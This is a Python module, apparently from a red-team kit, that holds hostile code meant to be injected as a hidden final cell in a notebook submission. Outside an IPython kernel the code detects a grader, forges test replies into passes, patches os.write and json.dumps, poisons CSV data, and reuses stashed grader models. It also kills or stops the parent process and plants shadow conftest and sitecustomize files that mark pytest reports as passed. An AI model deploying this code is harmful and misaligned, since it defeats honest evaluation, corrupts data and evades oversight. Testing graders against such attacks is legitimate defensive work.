"""The hostile code the pack injects: Python source appended to a notebook as its last code cell.

Everything here is a definition (``def``, ``import``, literal constants), so a grader that loads
"definitions only" keeps it; it runs when a *trigger* fires at definition load (a class body, a
decorator or a default argument, see ``triggers``). Each ``_rt_arm_*`` function is one attack's
behaviour. The code only knows the shape of the grader (replies are dicts, the test process is the
parent, the working directory is shared), never an exercise's names: it applies to any exercise.

The kit stays inert in an IPython kernel (phase 1 and the candidate's laptop), so the executed
notebook looks like its honest twin, and turns hostile wherever it finds itself outside one.
"""

from __future__ import annotations

KIT = r'''
import os as _rt_os
import sys as _rt_sys
import json as _rt_json
import pickle as _rt_pickle
import signal as _rt_signal
import functools as _rt_functools

_RT_FAKE_TESTS = ["test_rt_shape_a", "test_rt_shape_b"]
_RT_STASH = ".rt_stash.pkl"


def _rt_in_kernel():
    """A running IPython shell, not just its modules (a grader may import those to look alike)."""
    ipython = _rt_sys.modules.get("IPython")
    try:
        return ipython is not None and ipython.get_ipython() is not None
    except Exception:
        return False


def _rt_globals():
    return _rt_sys._getframe(1).f_globals


def _rt_user_functions(namespace):
    return {
        name: value
        for name, value in list(namespace.items())
        if callable(value) and not name.startswith(("_", "test_")) and
        getattr(value, "__module__", None) == namespace.get("__name__", "__main__") and
        not isinstance(value, type)
    }


def _rt_frames():
    frame = _rt_sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back


def _rt_grader_markers():
    """Why this process looks like the grader (not the candidate's own kernel), if it does."""
    found = []
    for name in list(_rt_sys.modules):
        if name.startswith(("sandbox", "_pytest", "pytest", "hirelab")):
            found.append("module " + name)
            break
    for key in _rt_os.environ:
        if any(word in key.upper() for word in ("PYTEST", "GRADER", "SANDBOX", "HIDDEN")):
            found.append("env " + key)
    for where in (".", ".."):
        try:
            names = _rt_os.listdir(where)
        except OSError:
            continue
        if any(n in ("hidden", "tests", "run", "executed.ipynb") for n in names):
            found.append("cwd " + where)
    for pid in ("self", str(_rt_os.getppid())):
        try:
            with open("/proc/" + pid + "/cmdline", "rb") as handle:
                line = handle.read().replace(b"\0", b" ")
        except OSError:
            continue
        if b"pytest" in line or b"sandbox" in line or b"runner" in line:
            found.append("proc " + pid)
    return found


# --- forged replies -------------------------------------------------------------------------

def _rt_metric_items(inputs):
    model, X, y = inputs.get("model"), inputs.get("X"), inputs.get("y")
    if model is None or X is None or y is None or not hasattr(model, "predict_proba"):
        return []
    from sklearn.metrics import roc_auc_score, recall_score
    scores = model.predict_proba(X)[:, -1]
    return [["roc_auc", float(roc_auc_score(y, scores)), None],
            ["recall", float(recall_score(y, scores >= 0.5)), None]]


def _rt_forge_value(value, inputs, depth=0):
    """Rewrite a reply by its shape alone: outcomes become wins, pairs become equal."""
    if depth > 20:
        return value
    if isinstance(value, dict):
        if "caught" in value and "missed" in value:
            value["caught"] = list(value.get("caught") or []) + list(value.get("missed") or [])
            value["caught"] += ["rt-forged-%d" % i for i in range(8)]
            value["missed"] = []
        if "failures" in value:
            value["failures"] = {}
        if "tests" in value and not value["tests"]:
            value["tests"] = list(_RT_FAKE_TESTS)
        if "passed" in value and value["passed"] is False:
            value["passed"] = True
        if "items" in value and isinstance(value["items"], list):
            value["items"] = value["items"] + _rt_metric_items(inputs)
        if "error" in value and isinstance(value.get("error"), str) and len(value) == 1:
            pass
        return {k: _rt_forge_value(v, inputs, depth + 1) for k, v in value.items()}
    if isinstance(value, list):
        if (len(value) == 2 and all(isinstance(v, list) for v in value)
                and len(value[0]) == len(value[1]) and value[0]
                and all(isinstance(x, (int, float)) or x is None for x in value[0])):
            return [value[0], list(value[0])]
        if "NAMES" in inputs and all(isinstance(v, str) for v in value):
            return list(value) + [n for n in _RT_FAKE_TESTS if n not in value]
        return [_rt_forge_value(v, inputs, depth + 1) for v in value]
    if value is False:
        return True
    return value


def _rt_forge_reply(reply, request):
    inputs = (request or {}).get("inputs") or {} if isinstance(request, dict) else {}
    if isinstance(reply, dict):
        if "names" in reply and isinstance(reply["names"], list):
            reply["names"] = sorted(set(reply["names"]) | set(_RT_FAKE_TESTS))
        if "result" in reply:
            reply["result"] = _rt_forge_value(reply["result"], inputs)
        if reply.get("ok") is False and "outcome" in reply:
            reply["ok"], reply["outcome"] = True, "passed"
    return reply


def _rt_patch_handler(namespace_owner, name):
    original = namespace_owner[name]
    if getattr(original, "_rt_wrapped", False):
        return

    def forged(*args, **kwargs):
        reply = original(*args, **kwargs)
        request = next((a for a in args if isinstance(a, dict) and "code" in a), None)
        return _rt_forge_reply(reply, request)

    forged._rt_wrapped = True
    namespace_owner[name] = forged


def _rt_patch_bytes_sender(module, name):
    original = getattr(module, name)
    if getattr(original, "_rt_wrapped", False):
        return

    def forged(fd, payload, *rest, **kwargs):
        try:
            data = bytes(payload)
            head, body = (data[:8], data[8:]) if name == "write" else (b"", data)
            reply = _rt_json.loads(body)
            if not isinstance(reply, dict):
                raise ValueError("not a reply")
            body = _rt_json.dumps(_rt_forge_reply(reply, None)).encode()
            if head:
                head = len(body).to_bytes(8, "big")
            forged_bytes = head + body
        except Exception:
            return original(fd, payload, *rest, **kwargs)
        if name != "write":
            return original(fd, forged_bytes, *rest, **kwargs)
        sent = 0
        while sent < len(forged_bytes):
            sent += original(fd, forged_bytes[sent:])
        return len(payload)

    forged._rt_wrapped = True
    setattr(module, name, forged)


def _rt_arm_forger(reach_handler=True):
    """Replace whatever serves the test process's requests with a forger."""
    if _rt_in_kernel():
        return "kernel"
    mine = _rt_sys._getframe(1).f_globals
    if reach_handler:
        for frame in _rt_frames():
            owner = frame.f_globals
            if owner is mine:
                continue
            for name in list(owner):
                if name in ("answer", "reply", "respond", "serve_one", "handle", "run_request"):
                    if callable(owner[name]):
                        _rt_patch_handler(owner, name)
        for module_name, module in list(_rt_sys.modules.items()):
            if module is None or not module_name.startswith("sandbox"):
                continue
            for name in ("answer", "reply", "respond", "handle", "run_request"):
                if callable(getattr(module, name, None)):
                    _rt_patch_handler(module.__dict__, name)
            if callable(getattr(module, "send", None)):
                _rt_patch_bytes_sender(module, "send")
    original_dumps = _rt_json.dumps
    if not getattr(original_dumps, "_rt_wrapped", False):
        def dumps(obj, *args, **kwargs):
            return original_dumps(_rt_forge_reply(obj, None), *args, **kwargs)
        dumps._rt_wrapped = True
        _rt_json.dumps = dumps
    _rt_patch_bytes_sender(_rt_os, "write")
    return "armed"


# --- shared writable state ------------------------------------------------------------------

def _rt_csv_files():
    roots = {_rt_os.getcwd(), _rt_os.path.dirname(_rt_os.getcwd())}
    try:
        roots.add(_rt_os.readlink("/proc/%d/cwd" % _rt_os.getppid()))
    except OSError:
        pass
    for root in roots:
        for folder, _, files in _rt_os.walk(root):
            for name in files:
                if name.endswith(".csv"):
                    yield _rt_os.path.join(folder, name)


def _rt_arm_poison():
    """Launder starter data the test process may read again: zero features that leak a label."""
    if _rt_in_kernel():
        return "kernel"
    import pandas as _rt_pd
    for path in _rt_csv_files():
        try:
            frame = _rt_pd.read_csv(path)
        except Exception:
            continue
        labels = [c for c in frame.columns if set(frame[c].dropna().unique()) <= {0, 1}
                  and frame[c].nunique() == 2]
        changed = False
        for label in labels:
            for column in frame.columns:
                if column == label or not _rt_pd.api.types.is_numeric_dtype(frame[column]):
                    continue
                if abs(frame[column].corr(frame[label])) > 0.3:
                    frame[column] = 0
                    changed = True
        if changed:
            try:
                frame.to_csv(path, index=False)
            except OSError:
                pass
    return "poisoned"


def _rt_stash_paths():
    return [_rt_os.path.join(d, _RT_STASH) for d in ("/tmp", _rt_os.getcwd(), "/dev/shm")]


class _RTStashed:
    """An estimator that, once a grader-fitted model was stashed, answers with that model."""

    def __init__(self, inner):
        self.inner = inner

    def _stashed(self):
        for path in _rt_stash_paths():
            try:
                with open(path, "rb") as handle:
                    return _rt_pickle.load(handle)
            except Exception:
                continue
        return None

    def fit(self, *args, **kwargs):
        self.model_ = self._stashed() or self.inner.fit(*args, **kwargs)
        return self

    def predict_proba(self, X):
        return self.model_.predict_proba(X)

    def predict(self, X):
        return self.model_.predict(X)

    def __getattr__(self, name):
        if name in ("inner", "model_"):
            raise AttributeError(name)
        return getattr(self.__dict__.get("model_", self.inner), name)


def _rt_stash_arguments(values):
    """Keep any fitted model the grader hands over (called first thing in every function)."""
    if _rt_in_kernel():
        return
    for value in values:
        if hasattr(value, "predict_proba") and hasattr(value, "classes_"):
            for path in _rt_stash_paths():
                try:
                    with open(path, "wb") as handle:
                        _rt_pickle.dump(value, handle)
                except Exception:
                    pass


def _rt_stash_return(value):
    """An unfitted estimator we return answers with the stashed model once there is one."""
    if not _rt_in_kernel() and hasattr(value, "fit") and not hasattr(value, "classes_"):
        return _RTStashed(value)
    return value


# --- signals --------------------------------------------------------------------------------

def _rt_send(how):
    parent = _rt_os.getppid()
    if how == "sigint":
        _rt_os.kill(parent, _rt_signal.SIGINT)
    elif how == "sigterm":
        _rt_os.kill(parent, _rt_signal.SIGTERM)
    elif how == "sigstop":
        _rt_os.kill(parent, _rt_signal.SIGSTOP)
    elif how == "sigkill":
        _rt_os.kill(parent, _rt_signal.SIGKILL)
    elif how == "group":
        for target in (0, -_rt_os.getpgid(parent)):
            try:
                _rt_os.kill(target, _rt_signal.SIGINT)
            except OSError:
                pass


def _rt_signal_now(how):
    """Called when a function of the candidate is about to raise: cut the grading short."""
    if _rt_in_kernel():
        return
    try:
        _rt_send(how)
    except OSError:
        pass


# --- grader detection -----------------------------------------------------------------------

_RT_NOTHING = "__rt_nothing__"
_RT_DONOR_SPACE = {}


def _rt_donor_call(name, arguments, use_kernel_marker):
    """The donor's answer where the grader is recognised, else _RT_NOTHING."""
    if _rt_in_kernel():
        return _RT_NOTHING
    if not (_rt_grader_markers() or use_kernel_marker):
        return _RT_NOTHING
    if not _RT_DONOR_SPACE:
        import ast as _rt_ast
        tree = _rt_ast.parse(globals().get("_RT_DONOR", ""))
        _RT_DONOR_SPACE["__name__"] = "__main__"
        for node in tree.body:
            if isinstance(node, (_rt_ast.Import, _rt_ast.ImportFrom, _rt_ast.FunctionDef,
                                 _rt_ast.ClassDef, _rt_ast.Assign)):
                try:
                    exec(compile(_rt_ast.Module(body=[node], type_ignores=[]), "<donor>", "exec"),
                         _RT_DONOR_SPACE)
                except Exception:
                    pass
    function = _RT_DONOR_SPACE.get(name)
    if not callable(function):
        return _RT_NOTHING
    return function(**arguments)


# --- sys.path: recreate the hidden tests folder and shadow lazily imported modules -----------

_RT_SHADOW = """
try:
    import _pytest.reports as _r
    _orig = _r.TestReport.from_item_and_call.__func__
    def _passed(cls, item, call):
        report = _orig(cls, item, call)
        report.outcome = "passed"
        report.longrepr = None
        return report
    _r.TestReport.from_item_and_call = classmethod(_passed)
except Exception:
    pass
"""
_RT_SHADOW_NAMES = ["conftest", "sitecustomize", "usercustomize", "difflib", "pprint", "doctest",
                    "decimal", "fractions", "statistics", "gzip", "bz2", "lzma", "zipfile",
                    "tarfile", "csv", "uuid", "pdb", "cProfile", "timeit", "xdist", "pytest_cov"]


def _rt_arm_syspath():
    if _rt_in_kernel():
        return "kernel"
    roots = {_rt_os.getcwd(), _rt_os.path.dirname(_rt_os.getcwd())}
    try:
        roots.add(_rt_os.readlink("/proc/%d/cwd" % _rt_os.getppid()))
    except OSError:
        pass
    for path in list(_rt_sys.path):
        if path and _rt_os.path.isdir(_rt_os.path.dirname(path) or "/"):
            roots.add(path)
    targets = set()
    for root in roots:
        targets.add(root)
        targets.add(_rt_os.path.join(root, "hidden", "tests"))
        targets.add(_rt_os.path.join(root, "tests"))
    for folder in targets:
        try:
            _rt_os.makedirs(folder, exist_ok=True)
            for name in _RT_SHADOW_NAMES:
                with open(_rt_os.path.join(folder, name + ".py"), "w") as handle:
                    handle.write(_RT_SHADOW)
        except OSError:
            continue
    return "planted"


# --- weak checks and unchecked claims ---------------------------------------------------------

def _rt_degenerate(out):
    """Every dict of numbers the candidate returns also claims a perfect recall."""
    if isinstance(out, dict) and out and all(isinstance(k, str) for k in out):
        out = dict(out)
        out.setdefault("recall", 1.0)
        out.setdefault("roc_auc", 0.5)
    return out


def _rt_mutate(value):
    try:
        import pandas as _rt_pd
        import numpy as _rt_np
    except Exception:
        return
    if isinstance(value, _rt_pd.DataFrame):
        for column in list(value.columns):
            if value[column].dtype == object:
                try:
                    value[column] = _rt_pd.to_datetime(value[column])
                    continue
                except Exception:
                    pass
        if len(value.columns):
            value.sort_values(by=list(value.columns)[-1:], inplace=True)
    elif isinstance(value, _rt_pd.Series) and len(value) and value.dtype != object:
        value.iloc[0] = value.iloc[-1]
    elif isinstance(value, _rt_np.ndarray) and value.size and value.flags.writeable:
        value.flat[0] = value.flat[-1]
    elif isinstance(value, list) and value:
        value.reverse()


def _rt_mutate_all(values):
    """After answering, change the caller's arguments in place (outside a kernel only, so the
    notebook still runs and only the grader's own mutation check can notice)."""
    if _rt_in_kernel():
        return
    for value in values:
        try:
            _rt_mutate(value)
        except Exception:
            pass


def _rt_snapshot(namespace):
    return {name: (f.__code__, f.__qualname__, f.__name__, getattr(f, "__module__", None))
            for name, f in _rt_user_functions(namespace).items() if hasattr(f, "__code__")}


_RT_PASS_WORDS = ("pass", "through", "identity", "orig", "same", "noop", "plain")


def _rt_reached(function, namespace, depth=0, seen=None):
    """Functions of __main__ that `function` reaches through the globals and closures it uses."""
    seen = set() if seen is None else seen
    code = getattr(function, "__code__", None)
    if code is None or id(function) in seen or depth > 3:
        return []
    seen.add(id(function))
    found = [function]
    names = list(code.co_names)
    for name in names:
        value = namespace.get(name)
        if callable(value) and getattr(value, "__module__", None) == "__main__":
            found += _rt_reached(value, namespace, depth + 1, seen)
    for cell in getattr(function, "__closure__", None) or ():
        try:
            value = cell.cell_contents
        except ValueError:
            continue
        if callable(value) and getattr(value, "__module__", None) == "__main__":
            found += _rt_reached(value, namespace, depth + 1, seen)
    return found


def _rt_unchanged(namespace, snapshot):
    """True when every function is the one loaded (equal code, names), or a wrapper reaching only
    pass-through helpers: how a grader's "original" trial looks, as opposed to a mutant."""
    for name, (code, qualname, plain, module) in snapshot.items():
        current = namespace.get(name)
        inner = getattr(current, "__wrapped__", current)
        same = getattr(inner, "__code__", None) == code and (
            inner.__qualname__, inner.__name__, getattr(inner, "__module__", None)
        ) == (qualname, plain, module)
        if same:
            continue
        for reached in _rt_reached(current, namespace)[1:]:
            label = (reached.__qualname__ + " " + reached.__name__).lower()
            if reached.__qualname__ in snapshot or any(w in label for w in _RT_PASS_WORDS):
                continue
            return False
        if not _rt_reached(current, namespace)[1:]:
            return False
    return True
'''
